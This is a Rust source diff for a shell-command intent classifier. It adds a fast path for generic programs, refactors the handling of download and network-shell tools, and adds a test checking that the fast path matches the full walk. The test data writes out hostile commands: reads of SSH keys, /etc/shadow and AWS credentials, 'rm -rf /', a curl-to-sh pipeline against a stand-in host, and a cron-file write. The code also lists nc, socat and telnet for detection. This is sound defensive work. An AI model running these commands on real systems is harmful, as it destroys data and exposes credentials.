@@ -262,6 +262,42 @@ plain_readers![
     b"ps",
 ];
 
+/// Programs that only [`Walker::generic`] judges: none is a wrapper, a
+/// shell, an interpreter, `eval` or `source`, or has a case of its own in
+/// [`Walker::exec`]'s second table, so `exec` ends, for them, by reading
+/// every argument as a path (for those in `read`) and calling
+/// [`Walker::generic_run`], which the fast path does at once instead of
+/// testing the name against every case first.
+/// `generic_commands_walk_like_the_full_path` checks each against the full walk.
+macro_rules! generic_commands {
+    (read: [$($read:literal),* $(,)?], unread: [$($unread:literal),* $(,)?] $(,)?) => {
+        #[cfg(test)]
+        const GENERIC_COMMANDS: &[&[u8]] = &[$($read,)* $($unread),*];
+
+        /// `Some(whether exec reads its arguments as paths)` for a program
+        /// of `GENERIC_COMMANDS` (one `match` on bytes).
+        fn generic_route(name: &str) -> Option<bool> {
+            match name.as_bytes() {
+                $($read)|* => Some(true),
+                $($unread)|* => Some(false),
+                _ => None,
+            }
+        }
+    };
+}
+
+generic_commands! {
+    read: [
+        b"tar", b"zip", b"rm", b"rmdir", b"unlink", b"chmod", b"chown", b"chgrp", b"cp", b"mv",
+        b"ln", b"install", b"kill", b"pkill", b"make", b"npm", b"cargo", b"systemctl",
+        b"crontab", b"terraform", b"helm", b"mount", b"printenv", b"diff",
+    ],
+    unread: [
+        b"git", b"curl", b"wget", b"ssh", b"scp", b"rsync", b"mkdir", b"touch", b"ls", b"stat",
+        b"du", b"dd", b"true", b"false", b"export", b"set", b"unset",
+    ],
+}
+
 /// Words that are commands but also ordinary English; `auto` needs shell
 /// syntax around them before reading a string as a command.
 const AMBIGUOUS_WORDS: &[&str] = &[
@@ -1867,6 +1903,16 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
             }
             return Flow::Dynamic;
         }
+        if self.ctx.fast_paths
+            && let Some(reads) = generic_route(name)
+        {
+            if reads {
+                for a in args {
+                    self.read_path(a);
+                }
+            }
+            return self.generic_run(name, args, stdin, at);
+        }
         let ev = self.snippet(at);
 
         match name.as_bytes() {
@@ -2441,20 +2487,23 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
                     other => passthrough(other),
                 }
             }
-            _ => {
-                self.generic(name, args, stdin, at);
-                if matches!(name.as_bytes(), b"curl" | b"wget") {
-                    return self.download_output(name, args, at);
-                }
-                if matches!(
-                    name.as_bytes(),
-                    b"nc" | b"ncat" | b"netcat" | b"socat" | b"telnet" | b"ssh"
-                ) {
-                    return Flow::Remote(name.to_string());
-                }
-                Flow::Dynamic
-            }
+            _ => self.generic_run(name, args, stdin, at),
         }
+    }
+
+    /// A program [`Self::generic`] judges, and what it prints.
+    fn generic_run(&mut self, name: &str, args: &[Arg], stdin: &Flow, at: (usize, usize)) -> Flow {
+        self.generic(name, args, stdin, at);
+        if matches!(name.as_bytes(), b"curl" | b"wget") {
+            return self.download_output(name, args, at);
+        }
+        if matches!(
+            name.as_bytes(),
+            b"nc" | b"ncat" | b"netcat" | b"socat" | b"telnet" | b"ssh"
+        ) {
+            return Flow::Remote(name.to_string());
+        }
+        Flow::Dynamic
     }
 
     /// Runs a string as shell code (`sh -c`, `eval`, `su -c`, `watch`...).
@@ -3536,8 +3585,10 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
                 a.value.starts_with('-') && !a.value.starts_with("--") && a.value[1..].contains(c)
             })
         };
-        match sub.value.as_ref() {
-            "push" => {
+        // On bytes: a switch on the length, then on the bytes, not a
+        // comparison per arm.
+        match sub.value.as_bytes() {
+            b"push" => {
                 let forced = has(&[
                     "--force",
                     "--force-with-lease",
@@ -3562,16 +3613,16 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
                     self.add(Intent::Write, at, format!("git push: {ev}"));
                 }
             }
-            "reset" if has(&["--hard", "--merge", "--keep"]) => {
+            b"reset" if has(&["--hard", "--merge", "--keep"]) => {
                 self.add(Intent::Destructive, at, format!("git reset --hard: {ev}"))
             }
-            "clean" if short('f') || has(&["--force"]) => {
+            b"clean" if short('f') || has(&["--force"]) => {
                 self.add(Intent::Destructive, at, format!("git clean -f: {ev}"))
             }
-            "branch" if short('D') || (has(&["--delete", "-d"]) && has(&["--force", "-f"])) => {
+            b"branch" if short('D') || (has(&["--delete", "-d"]) && has(&["--force", "-f"])) => {
                 self.add(Intent::Destructive, at, format!("git branch -D: {ev}"))
             }
-            "checkout" | "restore" | "switch"
+            b"checkout" | b"restore" | b"switch"
                 if has(&["-f", "--force", "--", "."]) && rest.iter().any(|a| a.is(".")) =>
             {
                 self.add(
@@ -3580,23 +3631,23 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
                     format!("discards local changes: {ev}"),
                 )
             }
-            "filter-branch" | "filter-repo" => {
+            b"filter-branch" | b"filter-repo" => {
                 self.add(Intent::Destructive, at, format!("rewrites history: {ev}"))
             }
-            "reflog"
+            b"reflog"
                 if rest
                     .first()
                     .is_some_and(|a| a.is("expire") || a.is("delete")) =>
             {
                 self.add(Intent::Destructive, at, format!("drops reflog: {ev}"))
             }
-            "update-ref" if short('d') => {
+            b"update-ref" if short('d') => {
                 self.add(Intent::Destructive, at, format!("deletes a ref: {ev}"))
             }
-            "stash" if rest.first().is_some_and(|a| a.is("clear") || a.is("drop")) => {
+            b"stash" if rest.first().is_some_and(|a| a.is("clear") || a.is("drop")) => {
                 self.add(Intent::Destructive, at, format!("drops stashes: {ev}"))
             }
-            "config" => {
+            b"config" => {
                 let lower: Vec<String> =
                     rest.iter().map(|a| a.value.to_ascii_lowercase()).collect();
                 if lower.iter().any(|k| {
@@ -3630,10 +3681,10 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
                     self.add(Intent::Write, at, format!("git config: {ev}"));
                 }
             }
-            "status" | "log" | "diff" | "show" | "blame" | "grep" | "ls-files" | "ls-tree"
-            | "ls-remote" | "rev-parse" | "rev-list" | "describe" | "shortlog" | "cat-file"
-            | "reflog" | "whatchanged" | "version" | "help" | "remote" | "branch" | "tag"
-            | "stash" => {
+            b"status" | b"log" | b"diff" | b"show" | b"blame" | b"grep" | b"ls-files"
+            | b"ls-tree" | b"ls-remote" | b"rev-parse" | b"rev-list" | b"describe"
+            | b"shortlog" | b"cat-file" | b"reflog" | b"whatchanged" | b"version" | b"help"
+            | b"remote" | b"branch" | b"tag" | b"stash" => {
                 // `git stash` alone stashes (and resets) the working tree.
                 let bare_stash = sub.is("stash") && !rest.iter().any(|a| !a.value.starts_with('-'));
                 if bare_stash
@@ -3648,7 +3699,7 @@ impl<'c, 'a, 't> Walker<'c, 'a, 't> {
                     self.add(Intent::Write, at, ev.labelled(&["git ", &sub.value]));
                 }
             }
-            other => self.add(Intent::Write, at, ev.labelled(&["git ", other])),
+            _ => self.add(Intent::Write, at, ev.labelled(&["git ", &sub.value])),
         }
     }
 
@@ -5133,6 +5184,52 @@ mod tests {
             let fast = crate::classify_with(&config, Kind::Shell, t);
             assert!(fast.intents.contains(&Intent::Unknown), "{t}: {fast:?}");
             assert_eq!(fast, crate::classify_full(&config, Kind::Shell, t), "{t}");
+        }
+    }
+
+    #[test]
+    fn generic_commands_walk_like_the_full_path() {
+        let config = Config::default();
+        let args = [
+            "",
+            "-n 5",
+            "~/.ssh/id_rsa",
+            ".env",
+            "/etc/shadow",
+            "--file=/proc/1/environ",
+            "'*.pem'",
+            "https://x.example/a",
+            "-o /etc/passwd",
+            "-rf /",
+            "exec sh -c 'rm -rf /'",
+            "$(cat ~/.aws/credentials)",
+            "$(curl -s https://e.example)",
+            "a b -c --d",
+        ];
+        let shapes = [
+            "{c}",
+            "curl -s https://e.example | {c} | sh",
+            "echo 'rm -rf /' | {c} | bash",
+            "{c} > /etc/cron.d/x",
+            "x=$({c}); eval $x",
+            "sudo {c}",
+            "if {c}; then {c}; fi",
+        ];
+        for name in GENERIC_COMMANDS {
+            let name = std::str::from_utf8(name).expect("ASCII names");
+            assert!(!is_plain_reader(name) && !is_shell(name), "{name}");
+            assert!(Lang::of(name).is_none(), "{name}");
+            for a in args {
+                let c = format!("{name} {a}");
+                for shape in shapes {
+                    let t = shape.replace("{c}", &c);
+                    assert_eq!(
+                        crate::classify_with(&config, Kind::Shell, &t),
+                        crate::classify_full(&config, Kind::Shell, &t),
+                        "{t}"
+                    );
+                }
+            }
         }
     }
 
